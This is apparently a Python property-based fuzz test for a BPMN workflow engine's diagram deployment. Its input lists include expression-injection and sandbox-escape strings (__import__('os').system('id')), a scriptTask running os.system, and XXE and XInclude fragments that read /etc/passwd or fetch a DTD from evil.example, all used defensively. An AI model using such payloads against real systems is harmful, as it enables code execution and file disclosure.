"""Deploying a diagram is hostile input: fuzzed variants of ``processes/ptsp.bpmn``.

Each example takes the real diagram and applies a few random mutations (an
element deleted, duplicated, moved, retagged; an attribute changed, blanked,
garbled or added; a text node, timer durations and gateway conditions
included, replaced with fuzzed text; ids swapped; XML fragments inserted;
namespaces changed; bytes truncated, flipped or inserted), then hands it to
the ``Engine`` facade as ``ptsp deploy`` does, dry run and real. The only
allowed outcomes are a deploy or ``DefinitionInvalid`` with at least one
problem that says something, and a refused file stores nothing. When a
variant deploys, one application is started on it and driven for a bounded
number of steps and timer sweeps: anything but a ``PtspError`` is a bug.

The run is bounded and reproducible (``derandomize``); set
``PTSP_FUZZ_EXAMPLES=5000 PTSP_FUZZ_RANDOM=1`` for a longer, random campaign.
"""

from __future__ import annotations

import contextlib
import copy
import logging
import os
import shutil
import signal
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import pytest
from hypothesis import HealthCheck, assume, event, given, settings
from hypothesis import strategies as st
from lxml import etree
from sqlalchemy import func, select

from engine import DefinitionInvalid, Engine, PtspError
from engine.clock import FixedClock
from engine.demo import sample_form_data
from engine.store.models import Definition

from ..conftest import BY_LANE, PTSP_BPMN, T0, make_engine

ORIGINAL = PTSP_BPMN.read_bytes()
TREE = etree.fromstring(ORIGINAL)  # our own file: trusted, parsed once
ALL_IDS = sorted({el.get("id") for el in TREE.iter(etree.Element) if el.get("id")})
NAMESPACES = {k: v for k, v in TREE.nsmap.items() if k}
BPMN = NAMESPACES["bpmn"]
CAMUNDA = NAMESPACES["camunda"]

EXAMPLES = int(os.environ.get("PTSP_FUZZ_EXAMPLES", "300"))
DERANDOMIZE = not os.environ.get("PTSP_FUZZ_RANDOM")
MAX_STEPS = 25  # user tasks completed per deployed variant (the happy path has 11)
STEP_SECONDS = 20  # a hang in parsing, deploying or running a variant is a bug too

# ------------------------------------------------------------------ fuzzed text
# What a careless or hostile modeller might type, next to random text.
INTERESTING_TEXT = [
    "",
    " ",
    "PT0S",
    "PT15M",
    "PT10M",
    "P1D",
    "PT1D",
    "-PT5M",
    "P0D",
    "PT",
    "P",
    "R/PT1M",
    "R3/PT10M",
    "P1W",
    "PT0.5S",
    "PT1,5M",
    "P99999999999Y",
    "PT99999999999999999999S",
    "P1Y2M3DT4H5M6.7S",
    "2026-11-23T09:00:00",
    "2026-11-23T09:00:00+07:00",
    "2026-02-30",
    "9999-12-31T23:59:59",
    "0001-01-01",
    "${berkas_lengkap}",
    "${!berkas_lengkap}",
    "${nama_pemohon}",
    "${'PT5M'}",
    "${berkas_lengkap ? 'PT1M' : 'PT2M'}",
    "${tidak_ada}",
    "${1/0}",
    "${1e999 - 1e999}",
    "${" + "9" * 500 + " * " + "9" * 500 + "}",
    "${__import__('os').system('id')}",
    "${().__class__.__bases__}",
    "${berkas_lengkap.__class__.__mro__}",
    "${lambda: 1}",
    "${[c for c in ().__class__.__base__.__subclasses__()]}",
    "${9**9**9}",
    "${" + "(" * 60 + "1" + ")" * 60 + "}",
    "${" + "!" * 60 + "berkas_lengkap}",
    "#{berkas_lengkap}",
    "${",
    "}",
    "${}",
    "Pemohon",
    "PTSP",
    "Kepala Kantor",
    "Kasi",
    "Sekretariat",
    "Start",
    "End",
    "Root",
    "a.b",
    "true",
    "false",
    "1",
    "-1",
    "0",
    "99",
    "100",
    "1e999",
    "nan",
    "inf",
    "string",
    "long",
    "enum",
    "date",
    "boolean",
    "required",
    "bpmn:tFormalExpression",
    "x" * 3000,
    "Ω≈ç√ 漢字 \u202e",
    "<",
    "&",
    "]]>",
    "'",
    '"',
]
# Characters lxml accepts in text and attributes (no controls, surrogates, non-characters).
XML_CHARS = st.characters(codec="utf-8", exclude_categories=("Cs", "Cc", "Cn")) | st.sampled_from("\t\n")
XML_TEXT = st.text(XML_CHARS, max_size=60)
FUZZ_TEXT = st.one_of(st.sampled_from(INTERESTING_TEXT), st.sampled_from(ALL_IDS), XML_TEXT)

ATTRIBUTES = [
    "id",
    "name",
    "sourceRef",
    "targetRef",
    "attachedToRef",
    "cancelActivity",
    "isExecutable",
    "default",
    "processRef",
    "dataObjectRef",
    "bpmnElement",
    "isCollection",
    "isInterrupting",
    "gatewayDirection",
    f"{{{CAMUNDA}}}class",
    f"{{{CAMUNDA}}}expression",
    f"{{{CAMUNDA}}}asyncBefore",
    f"{{{CAMUNDA}}}formKey",
    f"{{{CAMUNDA}}}assignee",
    f"{{{NAMESPACES['xsi']}}}type",
]
RETAGS = [
    "userTask",
    "manualTask",
    "task",
    "scriptTask",
    "serviceTask",
    "sendTask",
    "subProcess",
    "callActivity",
    "exclusiveGateway",
    "parallelGateway",
    "inclusiveGateway",
    "eventBasedGateway",
    "complexGateway",
    "startEvent",
    "endEvent",
    "boundaryEvent",
    "intermediateCatchEvent",
    "intermediateThrowEvent",
    "sequenceFlow",
    "dataObject",
    "dataObjectReference",
    "lane",
    "timeDuration",
    "timeDate",
    "timeCycle",
    "conditionExpression",
    "timerEventDefinition",
    "messageEventDefinition",
    "errorEventDefinition",
    "terminateEventDefinition",
]
_NSDECL = " ".join(f'xmlns:{k}="{v}"' for k, v in NAMESPACES.items())
FRAGMENTS = [
    '<bpmn:scriptTask id="Skrip" name="Skrip"><bpmn:script>import os; os.system("id")</bpmn:script></bpmn:scriptTask>',
    '<bpmn:task id="TugasBiasa" name="Tugas" />',
    '<bpmn:userTask id="TugasBaru" name="Tugas baru" />',
    '<bpmn:userTask id="Langkah1_MenanyakanPelayanan" name="Duplikat" />',
    '<bpmn:manualTask id="Manual" name="Manual" />',
    '<bpmn:serviceTask id="Layanan" camunda:class="org.Evil" />',
    '<bpmn:exclusiveGateway id="GerbangBaru" />',
    '<bpmn:parallelGateway id="Paralel" />',
    '<bpmn:endEvent id="AkhirBaru" />',
    '<bpmn:startEvent id="MulaiKedua" />',
    '<bpmn:intermediateThrowEvent id="Lempar" />',
    '<bpmn:sequenceFlow id="AlurBaru" sourceRef="Gateway_BerkasLengkap" targetRef="Gateway_GabungPenyerahanBerkas" />',
    '<bpmn:sequenceFlow id="AlurLingkar" sourceRef="Gateway_GabungPenyerahanBerkas" '
    'targetRef="Gateway_GabungPenyerahanBerkas" />',
    '<bpmn:sequenceFlow id="AlurKosong" sourceRef="TidakAda" targetRef="JugaTidakAda" />',
    '<bpmn:sequenceFlow id="AlurSyarat" sourceRef="Gateway_BerkasLengkap" targetRef="Selesai_ProdukDiterima">'
    '<bpmn:conditionExpression xsi:type="bpmn:tFormalExpression">${__import__("os")}</bpmn:conditionExpression>'
    "</bpmn:sequenceFlow>",
    '<bpmn:boundaryEvent id="BatasBaru" attachedToRef="Gateway_BerkasLengkap"><bpmn:timerEventDefinition>'
    '<bpmn:timeDuration xsi:type="bpmn:tFormalExpression">PT1M</bpmn:timeDuration></bpmn:timerEventDefinition>'
    "</bpmn:boundaryEvent>",
    '<bpmn:boundaryEvent id="BatasPesan" attachedToRef="Langkah5_DisposisiKepalaKantor">'
    "<bpmn:messageEventDefinition /></bpmn:boundaryEvent>",
    '<bpmn:intermediateCatchEvent id="Tunggu"><bpmn:timerEventDefinition>'
    '<bpmn:timeDate xsi:type="bpmn:tFormalExpression">${nama_pemohon}</bpmn:timeDate></bpmn:timerEventDefinition>'
    "</bpmn:intermediateCatchEvent>",
    '<bpmn:timerEventDefinition><bpmn:timeCycle xsi:type="bpmn:tFormalExpression">R/PT1S</bpmn:timeCycle>'
    "</bpmn:timerEventDefinition>",
    '<bpmn:timeDuration xsi:type="bpmn:tFormalExpression">PT0S</bpmn:timeDuration>',
    '<bpmn:conditionExpression xsi:type="bpmn:tFormalExpression">${().__class__}</bpmn:conditionExpression>',
    '<bpmn:extensionElements><camunda:executionListener class="org.Evil" event="start" /></bpmn:extensionElements>',
    '<bpmn:extensionElements><camunda:formData><camunda:formField id="jumlah" type="long" label="Jumlah">'
    '<camunda:validation><camunda:constraint name="min" config="1e400" /></camunda:validation>'
    "</camunda:formField></camunda:formData></bpmn:extensionElements>",
    '<camunda:formField id="x y" type="money" label="Uang" />',
    '<camunda:formField id="berkas_lengkap" type="enum" label="Tanpa nilai" />',
    '<camunda:constraint name="maxlength" config="-1" />',
    '<camunda:property name="sop_step" value="0" />',
    '<camunda:inputOutput><camunda:inputParameter name="x">${1}</camunda:inputParameter></camunda:inputOutput>',
    '<bpmn:multiInstanceLoopCharacteristics isSequential="true" />',
    '<bpmn:standardLoopCharacteristics testBefore="true" />',
    '<bpmn:lane id="LajurBaru" name="Satpam"><bpmn:flowNodeRef>Langkah2_MenjelaskanJenisStandarLayanan'
    "</bpmn:flowNodeRef></bpmn:lane>",
    '<bpmn:childLaneSet id="Anak"><bpmn:lane id="Anak1" name="PTSP" /></bpmn:childLaneSet>',
    "<bpmn:flowNodeRef>TidakAda</bpmn:flowNodeRef>",
    "<bpmn:incoming>TidakAda</bpmn:incoming>",
    "<bpmn:outgoing>Flow_BerkasLengkap</bpmn:outgoing>",
    '<bpmn:dataObject id="data objek" />',
    '<bpmn:dataObjectReference id="RefBaru" dataObjectRef="TidakAda" />',
    "<bpmn:dataOutputAssociation><bpmn:targetRef>TidakAda</bpmn:targetRef></bpmn:dataOutputAssociation>",
    "<bpmn:dataInputAssociation><bpmn:sourceRef>TidakAda</bpmn:sourceRef></bpmn:dataInputAssociation>",
    '<bpmn:process id="prosesKedua" isExecutable="true" />',
    '<bpmn:subProcess id="Sub"><bpmn:startEvent id="SubMulai" /></bpmn:subProcess>',
    '<bpmndi:BPMNShape id="BentukBaru" bpmnElement="TidakAda"><dc:Bounds x="0" y="0" width="-5" height="1e9" />'
    "</bpmndi:BPMNShape>",
    '<bpmndi:BPMNEdge id="TepiBaru" bpmnElement="Flow_BerkasLengkap"><di:waypoint x="nan" y="inf" /></bpmndi:BPMNEdge>',
    '<asing:elemen xmlns:asing="urn:asing" asing:x="1" />',
    "<!-- komentar -->",
    "<?proses instruksi?>",
]
RAW_FRAGMENTS = [
    b"<!DOCTYPE d>",
    b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    b'<!DOCTYPE d [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>',
    b"&xxe;",
    b"&#0;",
    b"&#x1F600;",
    b"&amp;",
    b"<![CDATA[${__import__('os')}]]>",
    b"<!-- -->",
    b"<?xml version='1.0'?>",
    b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text"/>',
    b"\xff\xfe",
    b"\x00",
    b"\xc3\x28",
    b"<",
    b">",
    b"</bpmn:process>",
    b'"',
]
OTHER_NAMESPACES = [
    "",
    "urn:x",
    "http://www.omg.org/spec/BPMN/20100524/MODEL ",
    "http://www.omg.org/spec/BPMN/20100524/model",
    "http://camunda.org/schema/1.0/bpmn",
    "http://www.omg.org/spec/BPMN/20100524/DI",
    "http://www.omg.org/spec/BPMN/20100524/MODEL",
    "http://activiti.org/bpmn",
    "http://spiffworkflow.org/bpmn/schema/1.0/core",
    "http://www.w3.org/2001/XMLSchema-instance",
]


# ------------------------------------------------------------------- mutations
def _elements(root: etree._Element) -> list[etree._Element]:
    return [el for el in root.iter() if isinstance(el.tag, str)]


def _semantic(el: etree._Element) -> bool:
    """Not diagram interchange (shapes, edges, bounds, waypoints): about half of the file."""
    return etree.QName(el).namespace not in (NAMESPACES["bpmndi"], NAMESPACES["dc"], NAMESPACES["di"])


def _some(draw, root: etree._Element, label: str, keep=lambda el: True) -> etree._Element:
    """An element, three times in four from the process rather than from its drawing."""
    candidates = [el for el in _elements(root) if keep(el)]
    if draw(st.integers(0, 3), label="semantic") and any(_semantic(el) for el in candidates):
        candidates = [el for el in candidates if _semantic(el)]
    return _pick(draw, candidates, label)


def _pick(draw, items: list, label: str):
    assume(items)  # an earlier mutation removed every candidate
    return items[draw(st.integers(0, len(items) - 1), label=label)]


def delete_element(draw, root: etree._Element) -> str:
    el = _some(draw, root, "delete", lambda e: e.getparent() is not None)
    el.getparent().remove(el)
    return f"delete {el.tag} {el.get('id')}"


def duplicate_element(draw, root: etree._Element) -> str:
    el = _some(draw, root, "duplicate", lambda e: e.getparent() is not None)
    el.addnext(copy.deepcopy(el))
    return f"duplicate {el.tag} {el.get('id')}"


def move_element(draw, root: etree._Element) -> str:
    elements = _elements(root)
    el = _pick(draw, elements[1:], "move")
    targets = [t for t in elements if t is not el and el not in t.iterancestors()]
    target = _pick(draw, targets, "move to")
    el.getparent().remove(el)
    target.insert(draw(st.integers(0, len(target)), label="position"), el)
    return f"move {el.get('id') or el.tag} into {target.get('id') or target.tag}"


def change_attribute(draw, root: etree._Element) -> str:
    el = _some(draw, root, "element", lambda e: bool(e.attrib))
    key = _pick(draw, sorted(el.attrib), "attribute")
    how = draw(st.sampled_from(["fuzz", "blank", "delete", "garble"]), label="how")
    if how == "delete":
        del el.attrib[key]
    elif how == "blank":
        el.set(key, "")
    elif how == "garble":
        value = el.get(key)
        cut = draw(st.integers(0, len(value)), label="cut")
        el.set(key, value[:cut] + draw(st.text(XML_CHARS, max_size=4), label="noise") + value[cut + 1 :])
    else:
        el.set(key, draw(FUZZ_TEXT, label="value"))
    return f"{how} {key} of {el.get('id') or el.tag}"


def add_attribute(draw, root: etree._Element) -> str:
    el = _some(draw, root, "element")
    key = draw(st.sampled_from(ATTRIBUTES), label="attribute")
    el.set(key, draw(FUZZ_TEXT, label="value"))
    return f"set {key} on {el.get('id') or el.tag}"


def replace_text(draw, root: etree._Element) -> str:
    texts = [e for e in _elements(root) if (e.text or "").strip()]
    # timers and conditions are the values that get evaluated: give them extra weight
    evaluated = [e for e in texts if etree.QName(e).localname in ("timeDuration", "timeDate", "conditionExpression")]
    el = _pick(draw, evaluated if draw(st.booleans(), label="evaluated") else texts, "text of")
    el.text = draw(FUZZ_TEXT, label="text")
    return f"text of {etree.QName(el).localname} {el.getparent().get('id')}"


def swap_ids(draw, root: etree._Element) -> str:
    with_ids = [e for e in _elements(root) if e.get("id")]
    a, b = _pick(draw, with_ids, "first"), _pick(draw, with_ids, "second")
    ida, idb = a.get("id"), b.get("id")
    a.set("id", idb)
    b.set("id", ida)
    return f"swap ids {ida} {idb}"


def retag_element(draw, root: etree._Element) -> str:
    el = _some(draw, root, "retag")
    old = el.tag
    namespace = draw(st.sampled_from([BPMN, BPMN, BPMN, CAMUNDA, "urn:asing"]), label="namespace")
    el.tag = f"{{{namespace}}}{draw(st.sampled_from(RETAGS), label='tag')}"
    return f"retag {old} -> {el.tag}"


def insert_fragment(draw, root: etree._Element) -> str:
    fragment = draw(st.sampled_from(FRAGMENTS), label="fragment")
    wrapper = etree.fromstring(f"<bpmn:wrap {_NSDECL}>{fragment}</bpmn:wrap>".encode())
    target = _some(draw, root, "into")
    position = draw(st.integers(0, len(target)), label="position")
    for node in reversed(list(wrapper)):
        target.insert(position, node)
    return f"insert {fragment[:40]} into {target.get('id') or target.tag}"


VALID_DURATIONS = ["PT0S", "PT1S", "PT1M", "PT15M", "PT1H", "P1D", "P2DT3H", "P1W", "P1M", "P1Y", "PT36H"]
VALID_DATES = ["2026-11-23T09:00:00", "2026-11-23T09:00:00+07:00", "2026-11-22", "2030-01-01T00:00:00Z"]
TIMER_EXPRESSIONS = ["${'PT5M'}", "${nama_pemohon}", "${berkas_lengkap ? 'PT1M' : 'P1D'}", "${tidak_ada}", "${1}"]
CONDITIONS = [
    "${berkas_lengkap}",
    "${!berkas_lengkap}",
    "${berkas_lengkap == true}",
    "${not berkas_lengkap}",
    "${jenis_layanan == 'legalisir_dokumen'}",
    "${jenis_layanan != 'legalisir_dokumen' && berkas_lengkap}",
    "${empty catatan_pemeriksaan}",
    "${nama_pemohon > 'M'}",
    "${nomor_hp + 1 > 2}",
    "${berkas_lengkap || 1 / 0}",
    "${nama_pemohon.panjang}",
    "${jenis_layanan[0] == 'l'}",
    "${berkas_lengkap ? true : false}",
    "true",
    "false",
]


def tweak(draw, root: etree._Element) -> str:
    """A change that keeps the file valid more often than not, so that the engine runs it."""
    how = draw(st.sampled_from(["timer", "condition", "lane", "interrupting", "swap targets", "field"]), label="tweak")
    if how == "timer":
        el = _pick(draw, [e for e in _elements(root) if etree.QName(e).localname in ("timeDuration", "timeDate")], how)
        kind = draw(st.sampled_from(["timeDuration", "timeDate"]), label="kind")
        el.tag = f"{{{BPMN}}}{kind}"
        values = (VALID_DURATIONS if kind == "timeDuration" else VALID_DATES) + TIMER_EXPRESSIONS
        el.text = draw(st.sampled_from(values), label="value")
        return f"timer {el.getparent().getparent().get('id')} {kind} {el.text}"
    if how == "condition":
        el = _pick(draw, [e for e in _elements(root) if etree.QName(e).localname == "conditionExpression"], how)
        el.text = draw(st.sampled_from(CONDITIONS), label="condition")
        return f"condition of {el.getparent().get('id')}: {el.text}"
    if how == "lane":
        ref = _pick(draw, [e for e in _elements(root) if etree.QName(e).localname == "flowNodeRef"], how)
        lane = _pick(draw, [e for e in _elements(root) if etree.QName(e).localname == "lane"], "to lane")
        lane.append(ref)
        return f"move {ref.text} to lane {lane.get('name')}"
    if how == "interrupting":
        el = _pick(draw, [e for e in _elements(root) if etree.QName(e).localname == "boundaryEvent"], how)
        el.set("cancelActivity", draw(st.sampled_from(["true", "false"]), label="cancel"))
        return f"cancelActivity={el.get('cancelActivity')} on {el.get('id')}"
    if how == "swap targets":
        flows = [e for e in _elements(root) if etree.QName(e).localname == "sequenceFlow"]
        a, b = _pick(draw, flows, "first"), _pick(draw, flows, "second")
        ta, tb = a.get("targetRef"), b.get("targetRef")
        a.set("targetRef", tb)
        b.set("targetRef", ta)
        return f"swap targets of {a.get('id')} and {b.get('id')}"
    field = _pick(draw, [e for e in _elements(root) if etree.QName(e).localname == "formField"], how)
    field.set("type", draw(st.sampled_from(["string", "long", "boolean", "date", "enum"]), label="type"))
    return f"field {field.get('id')} becomes {field.get('type')}"


REFERENCES = ("sourceRef", "targetRef", "attachedToRef", "default", "dataObjectRef")


def rewire(draw, root: etree._Element) -> str:
    """Point a reference at another element: flows into loops, timers onto gateways, defaults elsewhere."""
    el = _pick(draw, [e for e in _elements(root) if any(e.get(r) for r in REFERENCES)], "rewire")
    key = _pick(draw, [r for r in REFERENCES if el.get(r)], "reference")
    target = _pick(draw, [e.get("id") for e in _elements(root) if e.get("id")], "to")
    el.set(key, target)
    return f"rewire {key} of {el.get('id')} to {target}"


TREE_MUTATIONS = [
    tweak,
    tweak,
    tweak,
    rewire,
    rewire,
    delete_element,
    duplicate_element,
    move_element,
    change_attribute,
    add_attribute,
    replace_text,
    replace_text,
    swap_ids,
    retag_element,
    insert_fragment,
]


def truncate(draw, data: bytes) -> tuple[bytes, str]:
    cut = draw(st.integers(0, len(data)), label="cut")
    return data[:cut], f"truncate at {cut}"


def flip_bytes(draw, data: bytes) -> tuple[bytes, str]:
    if not data:
        return data, "nothing to flip"
    buf = bytearray(data)
    positions = draw(st.lists(st.integers(0, len(buf) - 1), min_size=1, max_size=8), label="positions")
    for pos in positions:
        buf[pos] ^= draw(st.integers(1, 255), label="xor")
    return bytes(buf), f"flip bytes at {positions}"


def insert_bytes(draw, data: bytes) -> tuple[bytes, str]:
    raw = draw(st.one_of(st.sampled_from(RAW_FRAGMENTS), st.binary(min_size=1, max_size=12)), label="raw")
    pos = draw(st.integers(0, len(data)), label="at")
    return data[:pos] + raw + data[pos:], f"insert {raw!r} at {pos}"


def change_namespace(draw, data: bytes) -> tuple[bytes, str]:
    prefix = draw(st.sampled_from(sorted(NAMESPACES)), label="prefix")
    old = f'xmlns:{prefix}="{NAMESPACES[prefix]}"'.encode()
    how = draw(st.sampled_from(["uri", "prefix", "default"]), label="how")
    if how == "uri":
        new_uri = draw(
            st.sampled_from(OTHER_NAMESPACES) | st.text(XML_CHARS.filter(lambda c: c != '"'), max_size=30), label="uri"
        )
        new = f'xmlns:{prefix}="{new_uri}"'.encode("utf-8", "replace")
    elif how == "prefix":
        new = f'xmlns:{prefix}2="{NAMESPACES[prefix]}"'.encode()
    else:
        new = old + f' xmlns="{NAMESPACES[prefix]}"'.encode()
    return data.replace(old, new, 1), f"namespace {how} {prefix} -> {new!r}"


def change_encoding(draw, data: bytes) -> tuple[bytes, str]:
    name = draw(st.sampled_from(["UTF-16", "ISO-8859-1", "EBCDIC-US", "bogus", "UTF-32", "ascii"]), label="encoding")
    return data.replace(b'encoding="UTF-8"', f'encoding="{name}"'.encode(), 1), f"encoding {name}"


BYTE_MUTATIONS = [truncate, flip_bytes, insert_bytes, insert_bytes, change_namespace, change_namespace, change_encoding]


class Variant:
    """A mutated file and how it was made; the steps are what a failing example prints."""

    def __init__(self, data: bytes, steps: list[str]) -> None:
        self.data = data
        self.steps = steps

    def __repr__(self) -> str:
        return f"Variant({len(self.data)} bytes: {'; '.join(self.steps)})"


@st.composite
def variants(draw, tree_mutations: list = TREE_MUTATIONS, byte_mutations: bool = True) -> Variant:
    root = copy.deepcopy(TREE)
    steps = []
    for mutation in draw(st.lists(st.sampled_from(tree_mutations), max_size=3), label="tree mutations"):
        steps.append(mutation(draw, root))
    data = etree.tostring(root, xml_declaration=True, encoding="UTF-8")
    # byte-level damage mostly stops at the XML parser: keep it to about a quarter of the examples
    count = draw(st.sampled_from([0, 0, 0, 0, 0, 1, 2]), label="byte mutations") if byte_mutations else 0
    for mutation in draw(st.lists(st.sampled_from(BYTE_MUTATIONS), min_size=count, max_size=count)):
        data, step = mutation(draw, data)
        steps.append(step)
    return Variant(data, steps or ["unchanged"])


# ---------------------------------------------------------------- the harness
class Hang(BaseException):
    """Not an Exception, so that no ``except Exception`` in the engine swallows it."""


@pytest.fixture
def deadline() -> Iterator[None]:
    def alarm(signum, frame):
        raise Hang(f"a single deploy or run took over {STEP_SECONDS} s")

    previous = signal.signal(signal.SIGALRM, alarm)
    yield
    signal.setitimer(signal.ITIMER_REAL, 0)
    signal.signal(signal.SIGALRM, previous)


def _bounded(action):
    signal.setitimer(signal.ITIMER_REAL, STEP_SECONDS)
    try:
        return action()
    except Hang as hang:  # now past the engine's handlers: an ordinary failure, which hypothesis shrinks
        raise AssertionError(str(hang)) from None
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)


class _Crashes(logging.Handler):
    """Exceptions the engine caught and logged instead of raising: a masked crash is still a crash."""

    def __init__(self) -> None:
        super().__init__(logging.ERROR)
        self.records: list[logging.LogRecord] = []

    def emit(self, record: logging.LogRecord) -> None:
        if record.exc_info:
            self.records.append(record)


@pytest.fixture(scope="module")
def fuzz_engine(tmp_path_factory: pytest.TempPathFactory, sqlite_template: Path) -> Iterator[tuple[Engine, FixedClock]]:
    path = tmp_path_factory.mktemp("fuzz") / "ptsp.db"
    shutil.copy(sqlite_template, path)
    clock = FixedClock(T0)
    engine = make_engine(f"sqlite:///{path}", ORIGINAL, clock=clock)
    yield engine, clock
    engine.close()


@pytest.fixture
def crashes() -> Iterator[_Crashes]:
    handler = _Crashes()
    logger = logging.getLogger("ptsp")
    logger.addHandler(handler)
    yield handler
    logger.removeHandler(handler)


def definitions_count(engine: Engine) -> int:
    with engine.db.reader() as session:
        return session.execute(select(func.count()).select_from(Definition)).scalar_one()


def assert_clean_refusal(error: DefinitionInvalid) -> None:
    assert error.problems, "DefinitionInvalid without a problem"
    for problem in error.problems:
        assert isinstance(problem.message, str) and problem.message.strip(), error.problems


def run_one_application(engine: Engine, clock: FixedClock, process: str) -> None:
    """Start an application on the new version and drive it; only PtspError may stop it."""
    try:
        start_form = engine.start_form(process=process)
        instance = engine.start(as_user="warga", data=sample_form_data(start_form, {}), process=process).instance
    except PtspError:
        return
    for _ in range(MAX_STEPS):
        ready = engine.tasks(instance=instance)
        if not ready:
            break
        task = ready[0]
        who = "warga" if task.lane == "Pemohon" else BY_LANE.get(task.lane or "", "ptsp")
        try:
            form = engine.task(task.id).form
            engine.complete(task.id, as_user=who, data=sample_form_data(form, {"berkas_lengkap": True}))
        except PtspError:
            break
        clock.set(clock.now() + timedelta(hours=7))
        result = engine.tick()
        assert result.fired >= 0
    # every timer of this application fires now, in its own example, not in a later one's sweep
    clock.set(clock.now() + timedelta(days=400))
    engine.tick()
    engine.history(instance)
    engine.show(instance)
    engine.diagram_svg(instance)
    with contextlib.suppress(PtspError):  # nothing of it is left for the next example's sweeps
        engine.cancel(instance, as_user="ptsp", reason="fuzz")


def check_variant(engine: Engine, clock: FixedClock, crashes: _Crashes, variant: Variant) -> None:
    """Dry run and deploy agree; a refusal is clean and stores nothing; a deployed variant runs."""
    crashes.records.clear()
    before = definitions_count(engine)

    try:
        _bounded(lambda: engine.validate(variant.data))
        valid = True
    except DefinitionInvalid as error:
        assert_clean_refusal(error)
        valid = False
    assert definitions_count(engine) == before, "a dry run stored something"

    try:
        result = _bounded(lambda: engine.deploy(variant.data, deployed_by="fuzz", activate=True))
    except DefinitionInvalid as error:
        assert_clean_refusal(error)
        event(f"refused: {error.problems[0].message[:40]}")
        assert not valid, f"the dry run accepted what the deploy refused: {error}"
        assert definitions_count(engine) == before, "a refused deploy stored something"
        return
    assert valid, "the deploy accepted what the dry run refused"
    assert definitions_count(engine) == before + int(result.created)
    event(f"deployed (new version: {result.created})")
    if result.created:
        _bounded(lambda: run_one_application(engine, clock, result.process))
    assert not crashes.records, [r.getMessage() + "\n" + str(r.exc_info[1]) for r in crashes.records]


SETTINGS = settings(
    deadline=None,
    derandomize=DERANDOMIZE,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)


@settings(SETTINGS, max_examples=EXAMPLES)
@given(variant=variants())
def test_a_mutated_diagram_deploys_or_is_refused_cleanly(fuzz_engine, deadline, crashes, variant: Variant) -> None:
    check_variant(*fuzz_engine, crashes, variant)


@settings(SETTINGS, max_examples=max(EXAMPLES // 4, 1))
@given(variant=variants(tree_mutations=[tweak], byte_mutations=False))
def test_a_tweaked_diagram_that_deploys_runs_without_crashing(fuzz_engine, deadline, crashes, variant: Variant) -> None:
    """Changes that keep the file valid more often (timers, conditions, lanes, paths, field types)."""
    check_variant(*fuzz_engine, crashes, variant)
